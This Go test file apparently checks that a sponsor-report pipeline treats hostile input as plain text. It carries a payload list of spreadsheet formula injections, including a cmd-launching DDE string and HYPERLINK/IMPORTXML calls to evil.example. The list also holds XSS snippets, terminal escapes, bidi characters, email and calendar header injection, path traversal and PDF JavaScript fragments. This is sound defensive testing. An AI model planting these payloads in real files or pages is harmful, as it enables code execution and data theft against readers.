package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"sponsorbook/pipeline/intake/headings"
)

// How many placements are tried: a run here, every text once in make
// conformance-full, which is some 200,000.
var placements = flag.Int("placements", 700, "hostile texts to place and look for; 0 places every text once, under every header")

// payloads are texts that do something where a program reads them as more than
// text. MARK is replaced by a mark of the run, by which what came of them is found.
var payloads = []string{
	`=HYPERLINK("http://evil.example/MARK","MARK")`, `=cmd|' /C calc'!A0 MARK`, "+1+MARK", "-1+MARK", "@SUM(MARK)", "\t=1+MARK", "\r=MARK",
	"＝1+MARK", "'=MARK", `=IMPORTXML("http://evil.example/MARK")`,
	`<script>alert("MARK")</script>`, `<img src=x onerror=alert('MARK')>`, `"><svg onload=MARK>`, `</title><script>MARK</script>`,
	"javascript:alert('MARK')",
	`<a href="http://evil.example/MARK">MARK</a>`, `' onmouseover='MARK`, `" onfocus="MARK" autofocus="`, "<!--MARK", "]]><MARK/>",
	"&lt;script&gt;MARK", "{{MARK}}", "${MARK}", "`MARK`", "$(MARK)", "%s%n MARK",
	"[MARK](http://evil.example/MARK)", "![MARK](http://evil.example/MARK.png)", "<http://evil.example/MARK>", "http://evil.example/MARK",
	"www.evil.example/MARK", "MARK@evil.example", "| MARK |", "# MARK", "- MARK", "1. MARK",
	"``` MARK", "[^1]: MARK", "[MARK]: http://evil.example/MARK", "***MARK***", "~~MARK~~", "MARK\n\n# MARK", "MARK\n- MARK\n</td></tr>",
	"MARK is written in red \x1bc and no more", "\x1b[2JMARK", "\u009b31mMARK", "\u202eMARK\u202c", "\u2066MARK\u2069",
	"M\u200bARK MARK\ufeff", "\x00MARK", "MARK\u2028MARK", "\U000E0041MARK", "MARK\u00ad\u2060",
	"MARK\r\nBcc: evil@evil.example", "MARK\r\nEND:VEVENT\r\nBEGIN:VALARM", "MARK\nATTACH:http://evil.example/MARK",
	`MARK;CN=x:mailto:evil@evil.example`, "=?utf-8?q?MARK?=", "MARK, evil@evil.example", "MARK\" <evil@evil.example>",
	"../../MARK", `C:\MARK`, "(MARK) Tj /URI (http://evil.example/MARK)", ") /S /JavaScript /JS (MARK", "%PDF-1.7 MARK", "&R&D&PMARK",
	"_x000D_MARK", "MARK\\, MARK\\n", "CON MARK.exe",
}

// TestNothingOfTheInputComesToLife puts hostile texts into every field of every
// kind of table, under every header in turn, into names of files and sheets, into
// the configuration, a snapshot and a workbook that comes back; makes the book,
// its messages and what the commands print; reads all of it back, each file by a
// reader of its format, and finds the texts nowhere but as text.
func TestNothingOfTheInputComesToLife(t *testing.T) {
	placed, read, stood := map[string]int{}, map[string]int{}, map[string]bool{}
	runs := 0
	for n := 0; sumOf(placed) < *placements || *placements == 0 && n < len(payloads); n++ {
		runs++
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			p := &placing{T: t, n: n, dir: t.TempDir(), placed: placed, files: read, stood: stood,
				payload: strings.ReplaceAll(payloads[n%len(payloads)], "MARK",
					fmt.Sprintf("zq%dx", n))}
			p.books()
			p.read()
			if os.RemoveAll(p.dir); t.Failed() {
				t.Errorf("with %q", p.payload)
			}
		})
	}
	t.Logf("%d placements in %d runs: %v; under %d of %d headers; files read back: %v", sumOf(placed), runs, placed, len(stood),
		knownHeaders(),
		read)
	for _, where := range []string{"cell", "header", "configuration", "name of a file", "name of a folder", "name of a sheet",
		"returned workbook",
		"snapshot"} {
		if placed[where] == 0 {
			t.Errorf("nothing was placed into a %s", where)
		}
	}
	if runs >= len(payloads) && len(stood) < knownHeaders() {
		t.Errorf("%d of %d headers stood above hostile cells", len(stood), knownHeaders())
	}
}

func sumOf(counts map[string]int) (n int) {
	for _, x := range counts {
		n += x
	}
	return n
}

// knownHeaders is how many headers are sure to be known, for all fields of all kinds.
func knownHeaders() (n int) {
	for _, k := range headings.Kinds() {
		for _, f := range k.Fields {
			n += max(1, len(sure(f)))
		}
	}
	return n
}

// A placing is one hostile text in all places at once.
type placing struct {
	*testing.T
	n       int // of the run: which headers stand for the fields
	dir     string
	payload string
	placed  map[string]int  // of all runs, by what the payload was put into
	files   map[string]int  // of all runs, read back, by the end of their names
	stood   map[string]bool // headers of all runs above hostile cells, by kind and field
	said    bytes.Buffer    // by the commands
}

func (p *placing) file(name string) string { return filepath.Join(p.dir, filepath.FromSlash(name)) }

func (p *placing) write(name string, content []byte) {
	p.Helper()
	if err := os.MkdirAll(filepath.Dir(p.file(name)), 0o700); err != nil {
		p.Fatal(err)
	}
	if err := os.WriteFile(p.file(name), content, 0o600); err != nil {
		p.Fatal(err)
	}
}

// call runs a command, and keeps what it prints.
func (p *placing) call(args ...string) int {
	return run(args, strings.NewReader(""), &p.said, &p.said)
}

// must runs a command that has to do its work.
func (p *placing) must(args ...string) {
	p.Helper()
	if got := p.call(args...); got != exitDone {
		p.Fatalf("%v: status %d: %s", args, got, p.said.String())
	}
}

// asJSON looks at what a command prints for machines.
func (p *placing) asJSON(args ...string) {
	p.Helper()
	var out bytes.Buffer
	if got := run(args, strings.NewReader(""), &out, &p.said); got != exitDone || !json.Valid(out.Bytes()) {
		p.Errorf("%v: status %d, and no JSON: %.200s", args, got, &out)
	}
}

// books makes two books, the second of hostile memories too, and lets every
// command speak of them.
func (p *placing) books() {
	p.exports()
	in, out := []string{"-i", p.file("in")}, []string{"-o", p.file("out")}
	with := func(args ...string) []string { return slices.Concat(args, in, out) }
	p.must(with("run", "--no-sync", "--as-of", "2026-09-30")...)
	p.returned()
	p.snapshot()
	p.must(with("run", "--no-sync", "--as-of", "2026-10-31")...)
	p.call(with("check", "--as-of", "2026-10-31")...)
	p.asJSON(with("check", "--as-of", "2026-10-31", "--json")...)
	p.asJSON(with("explain", "A2", "--as-of", "2026-10-31", "--json")...)
	p.call(with("brief", "A2", "--as-of", "2026-10-31")...)
	p.call(with("explain", "A1", "--as-of", "2026-10-31")...)
	p.call(with("explain", p.payload, "--as-of", "2026-10-31")...)
	p.call("diff", "-o", p.file("out"))
	p.call(with("deliver")...)
	p.call("forget", p.payload, "-o", p.file("out"), "-i", p.file("in"))
	p.call("run", "-i", p.payload)
	p.call(p.payload)
}

// exports writes a table of every kind. Its first row says sound things in every
// field that is no text and the payload in all others; each further row says the
// payload in one of the fields that are no text.
func (p *placing) exports() {
	tables := []string{}
	for _, k := range headings.Kinds() {
		for turn := 0; turn*len(payloads) < most(k); turn++ { // so that all runs have every header once
			name := k.Name
			if turn > 0 {
				name += fmt.Sprint(turn)
			}
			p.write("in/"+name+".csv", p.table(k, turn))
			tables = append(tables, fmt.Sprintf("  %s.csv: %s\n", name, k.Name))
		}
	}
	p.names()
	text, _ := json.Marshal(strings.ToValidUTF8(strings.Map(func(r rune) rune {
		if r < 0x20 && r != '\n' && r != '\t' {
			return -1 // YAML holds none
		}
		return r
	}, p.payload), ""))
	p.write("in/sponsorbook.yaml",
		[]byte("tables:\n"+strings.Join(tables, "")+
			"delivery: {from: Program <program@ours.example>, leadership: [lead@ours.example]}\ntiers: {tier_1: 100, tier_2: 100, "+
			"tier_1_out: 100, tier_2_out: 100}\n"+
			fmt.Sprintf("program: {company: %[1]s, name: %[1]s, confidential: %[1]s, purpose: %[1]s, manager: %[1]s, owners: [%[1]s], "+
				"goals: [%[1]s], escalation: %[1]s, decision: %[1]s}\n", text)))
	p.placed["configuration"] += 9
}

// table is a table of a kind under the headers of a turn; of the later turns the
// first row alone.
func (p *placing) table(k headings.Kind, turn int) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	var head []string
	for _, f := range k.Fields {
		h := header(f, p.n+turn*len(payloads))
		head = append(head, h)
		p.stood[k.Name+" "+f.Name+" "+h] = true
	}
	head = append(head, strings.ReplaceAll(p.payload, "\x00", "")) // a column that nobody knows
	p.placed["header"]++
	_ = w.Write(head)
	_ = w.Write(p.row(k, -1))
	for i, f := range k.Fields {
		if turn == 0 && sound(k.Name, f) != "" {
			_ = w.Write(p.row(k, i))
		}
	}
	if turn == 0 && slices.Contains([]string{"accounts", "revenue", "sponsors", "users"}, k.Name) {
		_ = w.Write(p.clean(k))
	}
	w.Flush()
	return b.Bytes()
}

// sure are the headers that mean a field in any table.
func sure(f headings.Field) (out []string) {
	for _, s := range f.Synonyms {
		if !s.Weak && !s.Ask && !s.Never && !strings.ContainsAny(s.Header, "#*") {
			out = append(out, s.Header)
		}
	}
	return out
}

// most is how many headers the field of a kind has that has most.
func most(k headings.Kind) int {
	n := 1
	for _, f := range k.Fields {
		n = max(n, len(sure(f)))
	}
	return n
}

// header is a word for a field, another each run.
func header(f headings.Field, n int) string {
	all := sure(f)
	if len(all) == 0 {
		return f.Name
	}
	return all[n%len(all)]
}

// sound is what a field that is no text says in a row that is to be used; "" for
// a text.
func sound(kind string, f headings.Field) string {
	switch f.Name {
	case "account id":
		return "A1"
	case "account", "executive sponsor", "parent", "parent id", "merged into", "won", "is closed", "sponsor group", "leaves on", "left on",
		"until", "sponsor until", "active":
		return " "
	case "email":
		return "eve@ours.example"
	case "month", "period":
		return "2026-09"
	case "tier":
		return "1"
	case "expires":
		return "2027-12-31"
	case "capacity":
		return "9"
	}
	switch f.Type {
	case "id":
		return strings.ReplaceAll(kind+" 1", " ", "-")
	case "date":
		return map[string]string{"meetings": "2026-11-20",
			"occasions": "2026-11-25"}[kind] + map[bool]string{true: "2026-09-15"}[kind != "meetings" && kind != "occasions"]
	case "amount", "number", "hours":
		return "3"
	case "percent":
		return "50"
	case "currency":
		return "EUR"
	case "time":
		return "14:00"
	case "meeting status":
		return "booked"
	case "stance":
		return "supports"
	case "role":
		return "decides"
	case "flag", "period", "ranges", "account", "level", "severity", "status", "stage", "mandate", "mode", "scope", "health", "origin",
		"document", "chosen", "country",
		"action status", "contact state", "meeting form", "meeting type", "note type", "language":
		return " "
	}
	return ""
}

// row is a row of a kind; wrong is the field that is no text and says the payload
// all the same, -1 for none.
func (p *placing) row(k headings.Kind, wrong int) []string {
	var out []string
	for i, f := range k.Fields {
		text := sound(k.Name, f)
		if f.Type == "id" && f.Name != "account id" && wrong >= 0 && text != " " {
			text = fmt.Sprintf("%s-%d", text, wrong)
		}
		if text == "" || i == wrong {
			// Of another field it is another text: what is checked against names of people
			// and of accounts is none of them.
			// a text file with NUL is none
			out = append(out, strings.ReplaceAll(fmt.Sprintf("%s %.3s%d", p.payload, k.Name, i), "\x00", ""))
			p.placed["cell"]++
			continue
		}
		out = append(out, strings.TrimSpace(text))
	}
	return out
}

// clean is a row of nothing hostile, so that there is a book whatever becomes of
// the others.
func (p *placing) clean(k headings.Kind) []string {
	var out []string
	for _, f := range k.Fields {
		text := strings.TrimSpace(sound(k.Name, f))
		switch f.Name {
		case "account id":
			text = "A2"
		case "account":
			text = "Globex"
		case "account manager", "name":
			text = "Tom Zee"
		case "sponsor", "executive sponsor":
			text = "Eve Prime"
		case "user id":
			text = "U2"
		case "active":
			text = "yes"
		}
		out = append(out, text)
	}
	return out
}

// names puts the payload into the names of files and sheets, as far as these can
// hold it.
func (p *placing) names() {
	name := strings.Map(func(r rune) rune {
		if r == '/' || r == 0 || r == '\\' {
			return '_'
		}
		return r
	}, p.payload)
	name = strings.TrimLeft(name, ".")
	if err := os.WriteFile(p.file("in")+"/"+name+".csv", []byte("Account ID,What\nA1,x\n"), 0o600); err == nil {
		p.placed["name of a file"]++
	}
	if err := os.Mkdir(p.file("in")+"/"+name, 0o700); err == nil {
		if err := os.WriteFile(p.file("in")+"/"+name+"/notes.csv", []byte("Account ID,Note\nA1,x\n"), 0o600); err == nil {
			p.placed["name of a folder"]++
		}
	}
	x := excelize.NewFile()
	defer x.Close()
	sheet := []rune(strings.Map(func(r rune) rune {
		if strings.ContainsRune(`:\/?*[]`, r) || r < 0x20 {
			return -1
		}
		return r
	}, p.payload))
	sheet = []rune(strings.Trim(string(sheet[:min(len(sheet), 31)]), "'"))
	if x.SetSheetName("Sheet1", string(sheet)) == nil {
		_ = x.SetSheetRow(string(sheet), "A1", &[]any{"Nothing", "Known"})
		_ = x.SetSheetRow(string(sheet), "A2", &[]any{p.payload, "x"})
		var b bytes.Buffer
		if x.Write(&b) == nil {
			p.write("in/folder/strange.xlsx", b.Bytes())
			p.placed["name of a sheet"]++
			p.placed["cell"]++
		}
	}
}

// returned fills in the workbooks of the first book.
func (p *placing) returned() {
	all, _ := filepath.Glob(p.file("out/2026-09/managers/*/fill-in.xlsx"))
	for i, file := range append(all, p.file("out/2026-09/action-plan.xlsx")) {
		x, err := excelize.OpenFile(file)
		if err != nil {
			p.Fatal(err)
		}
		for _, sheet := range x.GetSheetList() {
			if rows, _ := x.GetRows(sheet); sheet[0] != '_' && sheet != "Start" && len(rows) > 0 {
				for col := range rows[0] {
					for row := 2; row <= min(len(rows)+1, 4); row++ {
						cell, _ := excelize.CoordinatesToCellName(col+1, row)
						if rows[0][col] != "Row" && x.SetCellStr(sheet, cell, strings.ReplaceAll(p.payload, "\x00", "")) == nil {
							p.placed["returned workbook"]++
						}
					}
				}
			}
		}
		var b bytes.Buffer
		if err := x.Write(&b); err != nil {
			p.Fatal(err)
		}
		x.Close()
		p.write(fmt.Sprintf("in/back/%d.xlsx", i), b.Bytes())
	}
}

// snapshot puts the payload into what the first book remembers in words.
func (p *placing) snapshot() {
	file := p.file("out/2026-09/snapshot.json")
	text, err := os.ReadFile(file)
	if err != nil {
		p.Fatal(err)
	}
	var s map[string]any
	if err := json.Unmarshal(text, &s); err != nil {
		p.Fatal(err)
	}
	p.remembered(s)
	if text, err = json.Marshal(s); err == nil {
		err = os.WriteFile(file, text, 0o600)
	}
	if err != nil {
		p.Fatal(err)
	}
}

var inWords = []string{"name", "why", "what", "comment", "owner", "sponsor", "deputy", "successor", "executive", "proposed_why", "reason",
	"cause", "of", "role",
	"window", "about", "definition", "version", "rule", "proposed"}

func (p *placing) remembered(v any) {
	switch v := v.(type) {
	case []any:
		for _, x := range v {
			p.remembered(x)
		}
	case map[string]any:
		for key, x := range v {
			if _, ok := x.(string); ok && slices.Contains(inWords, key) {
				v[key] = p.payload
				p.placed["snapshot"]++
			} else if key != "workbooks" {
				p.remembered(x)
			}
		}
	}
}
